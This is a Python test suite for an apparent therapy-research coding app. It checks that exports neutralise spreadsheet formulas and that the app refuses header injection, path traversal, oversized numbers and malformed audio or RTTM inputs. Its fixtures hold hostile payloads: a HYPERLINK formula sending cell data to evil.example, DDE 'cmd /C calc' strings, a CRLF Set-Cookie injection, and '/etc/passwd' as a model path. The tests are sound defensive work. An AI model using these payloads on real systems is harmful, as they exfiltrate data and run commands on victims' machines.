"""What a probe of coder's exports and inputs found, each fixed and held here: formulas in spreadsheet exports,
download names, numbers too large for the database, model paths on the processing form, request bodies,
the reliability command's CSV, partial RTTM files and WAV headers."""
from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update

from coder.config import load_settings
from coder.reports import aggregation, outcomes
from coder.stats import sheetsafe
from coder.study import audit, tree
from coder.study.accounts import AccountError, create_user
from coder.study.models import Client, Dyad, Study, Therapist, TherapySession, User
from coder.web import jsonapi
from coder.web.app import create_app

from .support.analysis_study import build_planned
from .support.rating_study import PASSWORD
from .support.web import login

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
STUDY = "Étude Über 研究"
PLAN = [("D1", 1, "A", "ana", 2), ("D1", 1, "A", "ben", 4), ("D1", 2, "B", "ana", 1), ("D2", 1, "C", "ana", 3),
        ("D2", 2, "D", "ben", 0)]


# --- exports and names --------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), (DDE, "'" + DDE), (AT, "'" + AT), (MINUS, "'" + MINUS), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("+3", "+3"), ("-2e3", "-2e3"), ("T07", "T07"), ("", ""),
    (-1.5, -1.5), (None, None), ("a=b", "a=b"), ("-inf", "'-inf"),
])
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(value, safe):
    assert sheetsafe.cell(value) == safe


def test_frames_keep_numbers_numbers():
    table = pd.DataFrame({"code": [HYPERLINK, "T1"], "score": [-1.5, 2.0], "=name": ["-3", "x"]})
    safe = sheetsafe.frame(table)
    assert list(safe.columns) == ["code", "score", "'=name"]
    assert safe["code"].tolist() == ["'" + HYPERLINK, "T1"] and safe["score"].tolist() == [-1.5, 2.0]
    assert safe["'=name"].tolist() == ["-3", "x"] and table["code"][0] == HYPERLINK  # the original is kept


@pytest.fixture
def poisoned(tmp_path, database):
    """A study with a non-ASCII name whose codes, time points and an outcome were stored before codes were
    checked: they look like spreadsheet formulas."""
    built = build_planned(database, PLAN, study_name=STUDY)
    with database.session() as db:
        study = db.get(Study, built["study_id"])
        db.execute(update(Dyad).where(Dyad.code == "D1").values(code=HYPERLINK))
        db.execute(update(Therapist).where(Therapist.code == "T1").values(code=DDE))
        db.execute(update(Client).where(Client.code == "C2").values(code=AT))
        db.execute(update(TherapySession).values(time_point=MINUS))
        path = tmp_path / "outcomes.csv"
        path.write_text(f'client,hads_anx_pre,sex\nC1,-4,"{MINUS}"\n"{AT}",10,m\n')
        outcomes.import_csv(db, study, path)
        db.commit()
    settings = load_settings(home=tmp_path / "home", database_url=database.url)
    app = create_app(settings, database, {"TESTING": True})
    client = app.test_client()
    login(client, "coord")
    return client, built["study_id"], database


def _values(rows) -> set:
    return {v for row in rows for v in row}


def _no_live_formula(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(sheetsafe.FORMULA_STARTS) or re.fullmatch(r"[+-][0-9.e]+", value), value


def test_table_exports_neutralise_formulas_and_keep_negative_numbers(poisoned):
    client, study_id, _database = poisoned
    for name in ("dyads", "sessions", "long", "units"):
        response = client.get(f"/analysis/{study_id}/tables/{name}.csv")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        values = _values(rows)
        _no_live_formula(values)
        if name in ("dyads", "sessions"):
            assert "'" + HYPERLINK in values and "'" + DDE in values
    dyads = pd.read_csv(io.BytesIO(client.get(f"/analysis/{study_id}/tables/dyads.csv").data))
    assert sorted(dyads["hads_anx_pre"].dropna()) == [-4, 10] and "'" + MINUS in dyads["sex"].tolist()
    assert "'" + MINUS in pd.read_csv(io.BytesIO(client.get(f"/analysis/{study_id}/tables/sessions.csv").data))[
        "time_point"].tolist()

    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/analysis/{study_id}/tables/tables.xlsx").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell holds a formula"
    _no_live_formula(c.value for c in cells)
    sheet = book["dyads"]
    header = [c.value for c in sheet[1]]
    column = header.index("hads_anx_pre") + 1
    numbers = [sheet.cell(r, column).value for r in range(2, sheet.max_row + 1)]
    assert -4 in numbers and all(isinstance(v, (int, float)) for v in numbers if v is not None)
    assert "'" + HYPERLINK in {c.value for c in sheet["A"]} | {c.value for row in sheet.iter_rows() for c in row}


def test_every_other_csv_export_neutralises_formulas(poisoned, tmp_path):
    client, study_id, database = poisoned
    with database.session() as db:
        study = db.get(Study, study_id)
        tables = aggregation.aggregate(db, study, aggregation.Rule())
        db.add(User(username="eve", password_hash="x", role="rater", display_name=HYPERLINK))
        audit.audit(db, "create", study, None, name=HYPERLINK)
        db.commit()
        trail = audit.to_csv(db, audit.trail(db.scalar(select(User).where(User.username == "coord")), [study_id]))
    for path in aggregation.write(tables, tmp_path / "out", ("csv",)):
        _no_live_formula(_values(csv.reader(path.open(encoding="utf-8"))))
    _no_live_formula(_values(csv.reader(io.StringIO(trail))))
    audit_csv = client.get("/audit?format=csv")
    assert audit_csv.status_code == 200
    _no_live_formula(_values(csv.reader(io.StringIO(audit_csv.get_data(as_text=True)))))


def test_codes_that_start_like_formulas_are_refused(database):
    with database.session() as db:
        study = tree.get_or_create_study(db, "Trial H")
        for therapist, client, dyad in ((HYPERLINK, "C1", "D1"), ("T1", DDE, "D1"), ("T1", "C1", AT),
                                        ("T1", "C1", "\tD1"), ("T1", "C1", "-D1")):
            with pytest.raises(tree.StudyError, match="spreadsheet would take for a formula|control character"):
                tree.get_or_create_dyad(db, study, therapist, client, dyad)
        with pytest.raises(tree.StudyError, match="formula"):
            tree.add_participant(db, study, "client", "=C9", None)
        dyad = tree.get_or_create_dyad(db, study, "T1", "C1", "D1")
        with pytest.raises(tree.StudyError, match="the time point '@week 6' starts with '@'"):
            tree.get_or_create_session(db, dyad, 1, time_point="@week 6")
        with pytest.raises(tree.StudyError, match="the treatment arm"):
            tree.get_or_create_session(db, dyad, 1, treatment_arm="+CBT")
        assert tree.get_or_create_session(db, dyad, 1, time_point="-1").time_point == "-1"  # only a number
        creator = create_user(db, "creator", PASSWORD, "coordinator")
        for name in ("Trial\r\nX", "Trial\x00", "Tab\there", "Line\u2028break"):
            with pytest.raises(tree.StudyError, match="control character"):
                tree.create_study(db, name, "", creator)
        with pytest.raises(AccountError, match="control character"):
            create_user(db, "mallory", PASSWORD, "rater", "Mal\nlory")
        db.rollback()
        assert db.scalar(select(Dyad)) is None


def test_the_browser_forms_and_the_manifest_refuse_formula_codes(tmp_path, database):
    from .support.audio import write_tone
    from coder.study import ingest

    with database.session() as db:
        create_user(db, "coord", PASSWORD, "coordinator")
    app = create_app(load_settings(home=tmp_path / "home", database_url=database.url), database,
                     {"TESTING": True, "WTF_CSRF_ENABLED": False})
    client = app.test_client()
    login(client, "coord")
    created = client.post("/studies/new", data={"name": STUDY, "description": ""})
    study_id = int(created.location.rsplit("/", 1)[1])
    page = client.post(f"/studies/{study_id}/participants", data={"kind": "therapist", "code": DDE},
                       follow_redirects=True).get_data(as_text=True)
    assert "would take for a formula" in page
    bad_name = client.post("/studies/new", data={"name": "Trial\nB", "description": ""}, follow_redirects=True)
    assert "control character" in bad_name.get_data(as_text=True)
    write_tone(tmp_path / "s1.wav", 1.0)
    with (tmp_path / "manifest.csv").open("w", newline="") as f:
        csv.writer(f).writerows([["file", "therapist", "client", "session"], ["s1.wav", HYPERLINK, "C1", "1"]])
    report = ingest.ingest_manifest(database, tmp_path / "manifest.csv", study=STUDY)
    assert not report.registered and "formula" in report.errors[0][2]
    with database.session() as db:
        assert db.scalar(select(Therapist)) is None


def _filename(response) -> str:
    header = response.headers["Content-Disposition"]
    star = re.search(r"filename\*=UTF-8''([^;]+)", header)
    return unquote(star.group(1)) if star else re.search(r'filename="([^"]*)"', header).group(1)


def test_downloads_of_a_study_with_a_non_ascii_name(poisoned):
    client, study_id, database = poisoned
    for url, name in ((f"/analysis/{study_id}/tables/dyads.csv", "Étude_Über_研究-dyads.csv"),
                      (f"/analysis/{study_id}/tables/tables.xlsx", "Étude_Über_研究-tables.xlsx"),
                      (f"/reliability/{study_id}/homework-engagement/export.csv",
                       "reliability-Étude_Über_研究-homework-engagement-v1.csv"),
                      (f"/reliability/{study_id}/homework-engagement/export.json",
                       "reliability-Étude_Über_研究-homework-engagement-v1.json")):
        response = client.get(url)
        assert response.status_code == 200, url
        header = response.headers["Content-Disposition"]
        header.encode("latin-1")  # what a WSGI server must be able to send
        assert re.search(r'filename="[A-Za-z0-9._-]+"', header) and _filename(response) == name
    # a name from before names were checked, with a line break in it
    with database.session() as db:
        db.execute(update(Study).where(Study.id == study_id).values(name="Trial\r\nSet-Cookie: x=1"))
        db.commit()
    response = client.get(f"/analysis/{study_id}/tables/dyads.csv")
    assert response.status_code == 200 and "Set-Cookie" not in response.headers
    assert "\n" not in response.headers["Content-Disposition"] and _filename(response).endswith("-dyads.csv")


@pytest.mark.parametrize("name, fallback", [
    ("report.csv", "report.csv"), ("recording-3.deidentified.txt", "recording-3.deidentified.txt"),
    ("Étude Über 研究.csv", "Etude_Uber.csv"), ("研究.csv", "download.csv"), ('a"b\r\nc.csv', "a_b_c.csv"),
    ("../../x.csv", "x.csv"),
])
def test_the_content_disposition_of_any_name(name, fallback):
    header = jsonapi.disposition(name)
    header.encode("latin-1")
    assert f'filename="{fallback}"' in header
    assert ("filename*=" in header) == (fallback != name and not name.isascii() or "/" in name)
    if not name.isascii():
        assert unquote(header.split("filename*=UTF-8''")[1]) == name
    if "filename*=" in header:
        exact = unquote(header.split("filename*=UTF-8''")[1])
        assert "\r" not in exact and "\n" not in exact and "/" not in exact and '"' not in exact


# --- input edges --------------------------------------------------------------------------------------------

@pytest.fixture
def site(tmp_path, database, monkeypatch):
    """A coordinator with a study, its dyad and a rater's assignment; the app with CSRF checks on and a model
    store of its own."""
    monkeypatch.setenv("CODER_MODELS_DIR", str(tmp_path / "models"))
    built = build_planned(database, PLAN[:1], study_name="Trial E")
    settings = load_settings(home=tmp_path / "home", database_url=database.url)
    app = create_app(settings, database, {"TESTING": True})
    return app, built


def _logged_in(app, username="coord"):
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def _token(client, path="/"):
    html = client.get(path).get_data(as_text=True)
    return re.search(r'name="csrf[-_]token" (?:content|value)="([^"]+)"', html).group(1)


def test_numbers_too_large_for_the_database_are_refused_with_a_message(site, tmp_path):
    from .support.audio import write_tone

    app, built = site
    client = _logged_in(app)
    study_id = built["study_id"]
    token = _token(client, f"/studies/{study_id}")
    tone = write_tone(tmp_path / "s.wav", 1.0).read_bytes()
    for field, value in (("session", "99999999999999999999999"), ("session", "2147483648"), ("session", "-1"),
                         ("session", "²"), ("dyad_id", "99999999999999999999999")):
        form = {"csrf_token": token, "therapist": "T1", "client": "C1", "dyad": "D1", "session": "1", field: value,
                "file": (io.BytesIO(tone), "s.wav")}
        response = client.post(f"/studies/{study_id}/upload", data=form, content_type="multipart/form-data",
                               headers={"Accept": "application/json"})
        assert response.status_code == 400, (field, value)
        assert "must be a whole number from 0 to 2147483647" in response.json["error"]
    for url in ("/studies/99999999999999999999999", "/transcripts/99999999999999999999999",
                "/audit?before=99999999999999999999999", f"/studies/{study_id}/search?q=homework&page=9999999999999",
                f"/studies/{study_id}/search?q=homework&page=²"):
        assert client.get(url).status_code in (200, 404), url
    process = client.post(f"/studies/{study_id}/process", data={"csrf_token": token, "all": "1",
                                                               "num_speakers": "99999999999999999999999"},
                          follow_redirects=True)
    assert "the number of speakers must be a whole number" in process.get_data(as_text=True)


def test_the_processing_form_takes_models_of_the_store_only(site, tmp_path):
    from coder.jobs import options

    app, built = site
    store = app.extensions["coder.settings"].models_dir
    store.mkdir(parents=True, exist_ok=True)
    (store / "whisper-base.pt").write_bytes(b"weights")
    client = _logged_in(app)
    study_id = built["study_id"]
    token = _token(client, f"/studies/{study_id}")
    secret = app.extensions["coder.settings"].home / "secret_key"
    for model in (str(secret), "../secret_key", str(store / "whisper-base.pt"), "/etc/passwd"):
        page = client.post(f"/studies/{study_id}/process", data={"csrf_token": token, "all": "1", "model": model},
                           follow_redirects=True).get_data(as_text=True)
        assert "Not started: unknown model" in page and "paths are not accepted" in page, model
    with pytest.raises(options.JobError, match="is a openai-whisper model, not one for faster-whisper"):
        options.check_options("faster-whisper", "whisper-base.pt", "builtin", None, None, store)
    assert options.check_options("openai-whisper", "whisper-base.pt", "builtin", 2, None, store)["model"] == \
        "whisper-base.pt"
    assert options.check_options("faster-whisper", "large-v3", "builtin", 2, None, store)["model"] == "large-v3"
    page = client.post(f"/studies/{study_id}/process", data={"csrf_token": token, "all": "1", "engine": "openai-whisper",
                                                            "model": "whisper-base.pt"}, follow_redirects=True)
    assert "Not started" not in page.get_data(as_text=True)  # past the check (every recording is done)
    from coder.pipeline.asr import resolve_model
    assert resolve_model("openai-whisper", "whisper-base.pt", store) == str(store / "whisper-base.pt")


def test_request_bodies_are_limited_per_route(site):
    app, built = site
    anonymous = app.test_client()
    token = _token(anonymous, "/login")
    big = "x" * (20 << 20)
    response = anonymous.post("/login", data={"csrf_token": token, "username": "coord", "password": big})
    assert response.status_code == 413 and len(response.data) < 500 and b"xxxx" not in response.data
    assert b"larger than the 1 MB this page accepts" in response.data

    rater = _logged_in(app, "ana")
    with app.extensions["coder.db"].session() as db:
        from coder.study.models import Assignment
        assignment = db.scalar(select(Assignment)).id
    token = _token(rater, f"/rate/{assignment}")
    save = rater.post(f"/rate/{assignment}/save", json={"responses": {"x" * 100: "y" * 2_700_000}},
                      headers={"X-CSRFToken": token})
    assert save.status_code == 413 and len(save.data) < 500 and save.json["ok"] is False
    # a rating of ordinary size is unaffected
    assert rater.post(f"/rate/{assignment}/save", json={"responses": {}}, headers={"X-CSRFToken": token}) \
        .status_code != 413

    coord = _logged_in(app)
    study_id = built["study_id"]
    token = _token(coord, f"/analysis/{study_id}")
    # a file route takes more than 1 MB (up to MAX_FILE_BYTES), the upload route its own limit
    outcomes_file = ("client,score\n" + "C1,1\n" * 300_000).encode()
    assert len(outcomes_file) > 1 << 20
    imported = coord.post(f"/analysis/{study_id}/outcomes", data={"csrf_token": token,
                                                                  "file": (io.BytesIO(outcomes_file), "o.csv")},
                          content_type="multipart/form-data")
    assert imported.status_code == 302
    app.config["MAX_FILE_BYTES"] = 1 << 20
    refused = coord.post(f"/analysis/{study_id}/outcomes", data={"csrf_token": token,
                                                                 "file": (io.BytesIO(outcomes_file), "o.csv")},
                         content_type="multipart/form-data")
    assert refused.status_code == 413
    upload = coord.post(f"/studies/{study_id}/upload", data={"csrf_token": token, "session": "1",
                                                             "file": (io.BytesIO(b"\0" * (2 << 20)), "a.wav")},
                        content_type="multipart/form-data", headers={"Accept": "application/json"})
    assert upload.status_code == 400 and "choose a dyad" in upload.json["error"]  # read, not refused with 413


def _ratings_csv(path, rows):
    path.write_text("unit,rater,score\n" + "".join(f"{u},{r},{s}\n" for u, r, s in rows))
    return path


GOOD = [(1, "a", 3), (1, "b", 4), (2, "a", 2), (2, "b", 2), (3, "a", 5), (3, "b", 4)]


@pytest.mark.parametrize("bad_row, line, message", [
    ((4, "a", "1e309"), 8, "line 8: score inf in column 'score' is not a finite number"),
    ((4, "a", "-inf"), 8, "line 8: score -inf in column 'score' is not a finite number"),
    (("", "a", 3), 8, "line 8: the target (column 'unit') is empty"),
    ((4, " ", 3), 8, "line 8: the rater (column 'rater') is empty"),
    ((4, "a", "lots"), 8, "line 8: score 'lots' in column 'score' is not a number"),
])
def test_the_reliability_command_refuses_bad_cells_by_line(tmp_path, bad_row, line, message):
    from .support.cli import coder

    path = _ratings_csv(tmp_path / "r.csv", [*GOOD, bad_row])
    assert path.read_text().splitlines()[line - 1].startswith(f"{bad_row[0]},")
    out = coder("reliability", path, "--target", "unit", "--rater", "rater", "--score", "score", "--bootstrap", "0",
                timeout=60)
    assert out.exit_code == 1 and message in out.stderr, out.stderr
    first = _ratings_csv(tmp_path / "first.csv", [(1, "a", "x"), *GOOD])
    out = coder("reliability", first, "--target", "unit", "--rater", "rater", "--score", "score", timeout=60)
    assert "line 2: score 'x'" in out.stderr


@pytest.fixture
def transcribed(tmp_path):
    """A home with a 153-second recording whose transcript has a word every 2 s, from two speakers."""
    from coder.db import Database
    from coder.study.models import Recording, Speaker, Transcript
    from .support.cli import coder

    home = tmp_path / "home"
    assert coder("--home", home, "init").exit_code == 0
    database = Database(load_settings(home=home).database_url)
    with database.session() as db:
        dyad = tree.get_or_create_dyad(db, tree.get_or_create_study(db, "Trial R"), "T1", "C1", "D1")
        session = tree.get_or_create_session(db, dyad, 1)
        rec = Recording(session_id=session.id, path="/nowhere/long.wav", original_name="long.wav", sha256="c" * 64,
                        size_bytes=1, duration_s=153.0, sample_rate=16000, channels=1, status="transcribed")
        db.add(rec)
        db.flush()
        segments = [{"start": s, "end": s + 1.5, "speaker": f"SPEAKER_0{(s // 10) % 2}", "text": " word",
                     "words": [{"start": s, "end": s + 1.5, "text": " word"}]} for s in range(0, 152, 2)]
        db.add(Transcript(recording_id=rec.id, engine="openai-whisper", model="base", language="en", duration_s=153,
                          segments=segments, speakers=[Speaker(label="SPEAKER_00", role="therapist"),
                                                       Speaker(label="SPEAKER_01", role="client")]))
    database.engine.dispose()
    return home, database


def test_rttm_import_refuses_turns_covering_little_of_the_speech(tmp_path, transcribed):
    from coder.study.models import Recording, Transcript
    from .support.cli import coder

    home, database = transcribed
    short = tmp_path / "short.rttm"
    short.write_text("SPEAKER long 1 10.0 4.0 <NA> <NA> A <NA> <NA>\n")
    out = coder("--home", home, "rttm", "import", short, "--recording", "1", timeout=60)
    assert out.exit_code == 1 and "the turns cover 3% of the speech in recording 1's transcript" in out.stderr
    assert "--force" in out.stderr
    with database.session() as db:
        assert db.get(Recording, 1).speaker_turns is None
        assert {s.role for s in db.scalar(select(Transcript)).speakers} == {"therapist", "client"}

    forced = coder("--home", home, "rttm", "import", short, "--recording", "1", "--force", timeout=60)
    assert forced.exit_code == 0 and "the turns cover 3% of the transcript's speech" in forced.stdout
    assert "97% of the transcript's speech lies outside the turns" in forced.stderr

    full = tmp_path / "full.rttm"
    full.write_text("SPEAKER long 1 0.0 80.0 <NA> <NA> A <NA> <NA>\nSPEAKER long 1 80.0 73.0 <NA> <NA> B <NA> <NA>\n")
    out = coder("--home", home, "rttm", "import", full, "--recording", "1", timeout=60)
    assert out.exit_code == 0 and "the turns cover 100% of the transcript's speech" in out.stdout
    assert "warning" not in out.stderr

    long_label = tmp_path / "label.rttm"
    long_label.write_text(f"SPEAKER long 1 0.0 153.0 <NA> <NA> {'L' * 51} <NA> <NA>\n")
    out = coder("--home", home, "rttm", "import", long_label, "--recording", "1", timeout=60)
    assert out.exit_code == 1 and "line 1: the speaker label (field 8) is 51 characters long; at most 50" in out.stderr


def test_rttm_labels_and_coverage_in_the_service(database):
    from coder.pipeline.diarize import Turn
    from coder.study import speakers

    assert speakers.speech_covered([{"start": 0, "end": 10, "words": [{"start": 0, "end": 4}, {"start": 6,
                                                                                                 "end": 10}]}],
                                   [Turn(2, 7, "A"), Turn(3, 5, "B")]) == (3.0, 8.0)
    from .support.tree import build_tree
    with database.session() as db:
        *_, rec, _unit, _instrument = build_tree(db)
        with pytest.raises(ValueError, match="is 60 characters long; at most 50"):
            speakers.import_turns(db, rec, [Turn(0, 10, "x" * 60)], "x.rttm")


def _wav_header(channels: int, rate: int = 16000) -> bytes:
    import struct

    data = b"\x01\x00" * 4096
    fmt = struct.pack("<HHIIHH", 1, channels, rate, (rate * channels * 2) & 0xFFFFFFFF, (channels * 2) & 0xFFFF, 16)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


@pytest.mark.parametrize("channels, rate, message", [
    (65535, 16000, "the file's header claims 65535 channels; coder reads recordings of up to 32 channels"),
    (2, 2_000_000_000, "the file's header claims a sample rate of 2000000000 Hz"),
])
def test_an_impossible_wav_header_is_refused_at_once_in_plain_words(tmp_path, channels, rate, message):
    import time

    from coder.pipeline import audio

    path = tmp_path / "odd.wav"
    path.write_bytes(_wav_header(channels, rate))
    for read in (audio.probe, audio.load_channels):
        started = time.monotonic()
        with pytest.raises(audio.AudioError) as refused:
            read(path)
        assert time.monotonic() - started < 2
        assert message in str(refused.value) and "numpy" not in str(refused.value)


def test_a_nul_character_in_any_field_is_a_400(site):
    app, built = site
    anonymous = app.test_client()
    token = _token(anonymous, "/login")
    response = anonymous.post("/login", data={"csrf_token": token, "username": "co\x00ord", "password": "x"})
    assert response.status_code == 400 and b"NUL character" in response.data
    coord = _logged_in(app)
    assert coord.get("/audit?actor=co%00ord").status_code == 400
    rater = _logged_in(app, "ana")
    with app.extensions["coder.db"].session() as db:
        from coder.study.models import Assignment
        assignment = db.scalar(select(Assignment)).id
    token = _token(rater, f"/rate/{assignment}")
    save = rater.post(f"/rate/{assignment}/save", json={"responses": {}, "note": "a\x00b"},
                      headers={"X-CSRFToken": token})
    assert save.status_code == 400 and "NUL character" in save.json["error"]
